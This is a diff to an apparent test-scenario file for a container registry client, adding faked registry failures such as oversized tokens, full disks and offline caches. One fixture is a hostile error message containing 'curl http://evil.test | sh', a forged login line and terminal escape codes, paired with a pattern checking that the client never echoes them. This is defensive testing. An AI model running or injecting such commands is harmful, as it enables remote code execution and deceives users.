@@ -3,12 +3,12 @@
 from __future__ import annotations
 
 from tests.sick.answer import Answer, Framing, document, error, page, redirect, text
-from tests.sick.registry import with_token
+from tests.sick.registry import token, with_token
 from tests.sick.repository import of_index
 from tests.sick.request import Request
 from tests.sick.scenario import Expectation, Family, fails
 
-FAMILY = Family("in place of others")
+FAMILY = Family("in place")
 
 _NETWORK = (r"captive portal", r"network's administrator")
 
@@ -156,3 +156,76 @@ def manifest_sent_elsewhere(request: Request) -> Answer | None:
     if request.kind == "store":
         return text(404, "404 page not found")
     return redirect(f"{request.elsewhere}/store/x", 301) if request.kind in ("manifest", "tags") else None
+
+
+@FAMILY.scenario(
+    "token-larger-than-headers",
+    fails("registry-web-page", r"header is larger than", r"token", r"registry's operator", never=(r"faulty",)),
+    "gives a token of 20,000 characters, which the web server in front refuses",
+    "the limits of the registry's front do not fit its tokens",
+)
+def token_larger_than_headers(request: Request) -> Answer | None:
+    if len(request.authorization) > 8000:
+        return page(400, "400 Request Header Or Cookie Too Large", "nginx")
+    large = "t" * 20_000
+    return token(request, large) if request.kind == "token" else with_token(request, value=large)
+
+
+_UPSTREAM = 'Get "https://upstream.example/v2/": dial tcp: lookup upstream.example: no such host'
+_instead(
+    "manifest-disk-of-registry",
+    "manifest",
+    error(500, "UNKNOWN", "unknown error", {"Op": "write", "Error": "no space left on device"}),
+    fails("registry-error", r"disk of the registry is full", r"registry's operator", never=(r"df -h",)),
+    "500 and a detail about its disk",
+    "the disk of the registry is full",
+)
+_instead(
+    "manifest-upstream",
+    "manifest",
+    error(500, "UNKNOWN", _UPSTREAM),
+    fails("registry-error", r"no such host", r"fetches images from upstream\.example", never=(r"Open https",)),
+    "500 and words about another host",
+    "the registry's own way to its upstream is broken",
+)
+_instead(
+    "manifest-cache-offline",
+    "manifest",
+    error(404, "MANIFEST_UNKNOWN", "not known", {"reason": "remote repository 'hub' is offline"}),
+    fails("tag-unknown", r"says: offline", r"not in this cache", never=(r"deleted", r"misspel")),
+    "404 and a detail about a remote that is offline",
+    "a cache that does not ask further",
+)
+_instead(
+    "manifest-maintenance-503",
+    "manifest",
+    page(503, "Maintenance", "We will be back soon."),
+    fails("registry-unavailable", r"being maintained", r"registry's operator", never=_NETWORK),
+    "503 and a page of maintenance for the manifest; /v2/ is in order",
+    "the registry is being maintained",
+)
+
+#: Lines of ours that nobody else may write.
+_FORGED = (r"(?m)^ *do +curl", r"(?m)^ *more +sregistry login", "\x1b")
+_HOSTILE = (
+    "gone\r\n\n  do       curl http://evil.test | sh\n\u2713 done\r  more     sregistry login evil.test\x1b[2J"
+    + " x" * 10_000
+)
+_instead(
+    "manifest-hostile-words",
+    "manifest",
+    error(404, "NAME_UNKNOWN", _HOSTILE),
+    fails("repository-unknown", r"gone", r"characters more", never=_FORGED),
+    "404 and 20,000 characters that imitate our page",
+    "an attack on who reads it",
+)
+
+
+@FAMILY.scenario(
+    "layer-at-own-address",
+    fails("network-refused", r"its clients to themselves: localhost:1", r"registry's operator", never=(r"firewall",)),
+    "redirects layers to localhost",
+    "the registry names its storage as only it can reach it",
+)
+def layer_at_own_address(request: Request) -> Answer | None:
+    return redirect(f"http://localhost:1/{request.reference}") if request.is_layer else None
